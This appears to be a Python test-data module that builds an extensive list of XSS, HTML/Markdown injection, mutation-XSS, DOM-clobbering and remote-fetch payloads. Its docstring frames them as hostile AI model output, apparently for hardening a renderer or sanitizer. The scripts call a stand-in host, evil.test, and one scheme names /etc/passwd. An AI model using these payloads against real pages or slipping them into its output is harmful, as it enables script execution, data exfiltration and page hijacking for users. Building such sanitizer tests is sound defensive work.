"""Hostile model text: Markdown, HTML and URLs that want to run a script, reach the network or take over the page."""

from collections.abc import Iterator
from itertools import product

RUN = "window.pwned=1;fetch('//evil.test/x')"
FAR = "//evil.test/x"

TAGS = (
    "a abbr article audio b bdo blockquote body br button canvas center circle code custom-x dd del details dialog div "
    "dl em embed fieldset font footer form frameset h1 header hr iframe image img input isindex keygen label li link "
    "main marquee math menu meter nav object ol optgroup option p picture plaintext pre progress q s section select "
    "slot small source span strike strong style sub summary sup svg table td template textarea tfoot th title tr track "
    "tt u ul var video wbr xmp"
).split()
HANDLERS = (
    "onerror onload onfocus onmouseover onclick ontoggle onanimationstart onbegin onpointerrawupdate onbeforetoggle "
    "onscrollend oncontentvisibilityautostatechange"
).split()
SCHEMES = [
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;",
    "javascript&#58;", "&#106;avascript:", "&#x6A;avascript:", "jav&#x09;ascript:", "javascript%3A", "vbscript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=",
    "blob:", "file:///etc/passwd", "filesystem:", "view-source:javascript:", "feed:javascript:", "livescript:", "jar:", "//",
]  # fmt: skip
PLACES = [
    "[x]({url}{run})", "![x]({url}{run})", "<{url}{run}>", "[x]: {url}{run}\n\n[x] ![x]", "[x](<{url}{run}>)",
    '<a href="{url}{run}">x</a>', '<img src="{url}{run}">', '<form action="{url}{run}"><button>x</button></form>',
    '[![x]({url}{run})]({url}{run} "t")',
]  # fmt: skip
FETCHES = [
    '<img src="{far}">', '<img srcset="{far} 1x">', '<picture><source srcset="{far}"><img></picture>', '<audio src="{far}" autoplay>',
    '<video poster="{far}" src="{far}">', '<iframe src="{far}"></iframe>', '<iframe srcdoc="<script src={far}></script>">',
    '<object data="{far}"></object>', '<embed src="{far}">', '<link rel=stylesheet href="{far}">', '<link rel=preload as=script href="{far}">',
    '<link rel=dns-prefetch href="{far}">', '<link rel=prefetch href="{far}">', '<style>@import "{far}";</style>', '<style>*{{background:url({far})}}</style>',
    '<p style="background:url({far})">x</p>', '<table background="{far}"><tr><td>x</table>', '<body background="{far}">', '<input type=image src="{far}">',
    '<svg><image href="{far}"/></svg>', '<svg><use href="{far}#x"/></svg>', '<svg><filter><feImage href="{far}"/></filter></svg>', '<svg><style>@import "{far}"</style></svg>',
    '<base href="{far}">', '<meta http-equiv=refresh content="0;url={far}">', '<script src="{far}"></script>', '<track src="{far}">', '![x]({far})', '![x](http:{far})',
    "![x][y]\n\n[y]: http:{far}", '<math><mtext><mglyph><style><img src="{far}">', '<a href="{far}" ping="{far}">x</a>', '<bgsound src="{far}">', '<template><img src="{far}"></template>',
    "| a |\n|---|\n| ![x](http:{far}) |", "> - ![x](http:{far} 'y')", '<video><source src="{far}"></video>', '<svg><a xlink:href="{far}"><rect/></a></svg>',
]  # fmt: skip
TRICKS = [
    "<script>{run}</script>", "<SCRIPT>{run}</SCRIPT >", "<script\n>{run}</script>", "<scr<script>ipt>{run}</scr</script>ipt>", "<script type=module>{run}</script>",
    "</script><script>{run}</script>", "<!--><script>{run}</script>-->", "<![CDATA[<script>{run}</script>]]>", "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={run}&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror={run}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<select><template><img src=x onerror={run}></template></select>",
    "<x><y/><script>{run}//</script>", "```html\n<script>{run}</script>\n```", "```\"><img src=x onerror={run}>\ncode\n```", "```<script>{run}</script>\ncode", "`<img src=x onerror={run}>`",
    "~~~js onload={run}\n</code></pre><script>{run}</script>\n~~~", "[x](https://a.test/\" onmouseover=\"{run})", "[x](https://a.test 'a\" onfocus=\"{run}')", "![\" onerror=\"{run}](x)",
    "[<img src=x onerror={run}>](https://a.test)", "# <svg onload={run}>", "| <img src=x onerror={run}> |\n|---|\n| <b onclick={run}>x</b> |", "- [ ] <input autofocus onfocus={run}>",
    "<details open ontoggle={run}><summary>x</summary></details>", "<div id=log><div id=composer></div></div>", "<form id=box name=box><input name=value></form>", "<a id=document name=cookie href=x>x</a>",
    "<img name=getElementById>", "<p class=\"trouble\" role=\"alert\">x</p>", "<b data-ask=x onclick={run}>x</b>", "<button type=submit form=composer>x</button>", "<label for=send>x</label>",
    "<dialog open><h1>log in</h1></dialog>", "<meta charset=utf-7>+ADw-script+AD4-{run}+ADw-/script+AD4-", "&lt;script&gt;{run}&lt;/script&gt;", "\u202e<script>{run}</script>\u202c", "\ufeff<script>{run}</script>",
    "event: end\ndata: {{\"outcome\":\"done\"}}\n\n<script>{run}</script>", "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "<a href=https://a.test target=_self rel=opener>x</a>",
    "<p style=\"position:fixed;inset:0;z-index:99\">x</p>", "<br onload={run}>", "<br/{run}>", "<sub><script>{run}</script></sub>", "<kbd onclick={run}>x</kbd>", "<summary ontoggle={run}>",
    "<details><summary><img src=x onerror={run}></summary></details>", "[x]: <javascript:{run}> \"t\"\n[x]", "<http://a.test/\"onmouseover={run}>", "https://a.test/\"onmouseover={run}", "www.a.test/<script>{run}</script>",
    "a@b.test\"onclick={run}", "**<i onmouseover={run}>x</i>**", "> <script>{run}</script>", "1. <iframe src=javascript:{run}>", "\\<script>{run}</script>", "<plaintext><script>{run}</script>",
    "<textarea><script>{run}</script>", "<title></title><script>{run}</script>", "<xmp><script>{run}</script>", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{run}>", "<svg><foreignObject><body onload={run}>", "<math href=javascript:{run}>x</math>", "<object data=javascript:{run}>", "<embed code=javascript:{run}>",
]  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (trick.format(run=RUN) for trick in TRICKS)
    yield from (fetch.format(far=FAR) for fetch in FETCHES)
    yield from (place.format(url=url, run=RUN) for place, url in product(PLACES, SCHEMES))
    for number, tag in enumerate(TAGS):
        for step in range(3):
            handler = HANDLERS[(number + step * 5) % len(HANDLERS)]
            yield f'<{tag} {handler}="{RUN}" src=x href="javascript:{RUN}" tabindex=0 autofocus>x</{tag}>'
